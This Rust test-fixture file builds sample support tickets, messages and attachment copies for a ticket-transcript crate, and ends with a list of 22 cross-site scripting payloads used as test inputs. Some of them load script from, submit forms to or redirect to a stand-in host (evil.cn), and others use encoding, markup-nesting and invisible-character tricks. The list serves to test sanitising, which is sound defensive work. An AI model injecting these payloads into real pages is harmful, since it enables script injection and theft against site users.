//! Tickets and messages for the tests of this crate.

use serde_json::{Value, json};
use shared::domain::{
    ArchivedMessage, Attachment, AttachmentCopy, CopyState, MessagePosition, Ticket, TicketId, Vendor,
};

use crate::transcript::{CatalogNames, Transcript};

/// 2026-01-31 23:59:59.999 UTC.
pub const CREATED: i64 = 1_769_903_999_999;

/// A closed ticket with these fields in place of its own.
pub fn ticket(fields: Value) -> Ticket {
    let mut ticket = json!({
        "id": "01KG9W0000000000000000TEST", "cloud_id": "0000059HB3", "status": 0, "state": "closed",
        "name": "ECS 无法连接", "description": "SSH 连接超时。\n\nref 01KG9W0000000000000000TEST",
        "email": "ops@example.com", "type": "ALIBABA", "product_id": "ecs", "product_business_id": "1001",
        "severity": "urgent", "custom_id": "acc-1", "create_time": CREATED,
        "first_response_time": CREATED + 60_000, "last_support_time": CREATED + 120_000,
        "close_time": CREATED + 7_200_000, "resolution_ms": 5_400_000, "message_count": 1, "shown_count": 1,
        "digest": "ab".repeat(32),
    });
    merge(&mut ticket, fields);
    serde_json::from_value(ticket).unwrap()
}

/// A message of support with these fields in place of its own.
pub fn message(fields: Value) -> ArchivedMessage {
    let mut message = json!({
        "id": "01KG9W00000000000000000MSG", "case_id": "0000059HB3", "message_id": "m1", "type": 1, "replier": "e1",
        "replier_name": "小二", "content": "您好 👋", "create_time": CREATED + 60_000,
    });
    merge(&mut message, fields);
    serde_json::from_value(message).unwrap()
}

/// The transcript of such a ticket.
pub fn transcript(fields: Value, messages: Vec<ArchivedMessage>, copies: &[AttachmentCopy]) -> Transcript {
    let names = CatalogNames { product: Some("云服务器 ECS".into()), problem_type: None };
    Transcript::new(ticket(fields), names, messages, copies).unwrap().unwrap()
}

/// The stored copy of the first file of the message `m1`.
pub fn copy(name: &str) -> AttachmentCopy {
    let message = MessagePosition { create_time: CREATED, order: 0, message_id: "m1".into() };
    let file = Attachment { name: name.into(), id: None, url: None };
    let ticket = TicketId::parse("01KG9W0000000000000000TEST").unwrap();
    let copy = AttachmentCopy::of_message(Vendor::Alibaba, &ticket, &message, &[file], CREATED).remove(0);
    AttachmentCopy { state: CopyState::Stored, size: Some(1234), sha256: Some("cd".repeat(32)), ..copy }
}

/// What somebody may write to harm a reader.
pub const HOSTILE: [&str; 22] = [
    "<script>alert(1)</script>",
    "<p>a</p><script src=//evil.cn/x.js></script>",
    "<p onclick=\"alert(1)\" onmouseover=alert(2)>a</p>",
    "<p><a href=\"javascript:alert(1)\">a</a></p>",
    "<p><a href=\" jav&#x09;ascript:alert(1)\">a</a></p>",
    "<p><a href=\"data:text/html,<script>alert(1)</script>\">a</a></p>",
    "<p><svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg></p>",
    "<p><math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></math></p>",
    "<p style=\"background:url(https://evil.cn/a)\">a</p>",
    "<p>a</p><style>body{background:url(https://evil.cn/a)}</style>",
    "<p><img src=x onerror=alert(1)></p>",
    "<p><img alt=\"><script>alert(1)</script>\" src=\"https://evil.cn/a.png\"></p>",
    "</title><script>alert(1)</script>",
    "</textarea></style></script></main></body><script>alert(1)</script>",
    "<p><b <i>a</p><<script>alert(1)//<</script>",
    "<p><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></p>",
    "<p><form action=https://evil.cn><input name=q><button>a</button></form></p>",
    "<p><base href=https://evil.cn><meta http-equiv=refresh content=\"0;url=https://evil.cn\"></p>",
    "\"><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<scr\u{200b}ipt>\u{202e}alert(1)\u{202c}</scr\u{200b}ipt>\u{0}\u{1b}[2J",
];

fn merge(value: &mut Value, fields: Value) {
    let (Value::Object(value), Value::Object(fields)) = (value, fields) else { panic!("both are objects") };
    value.extend(fields);
}
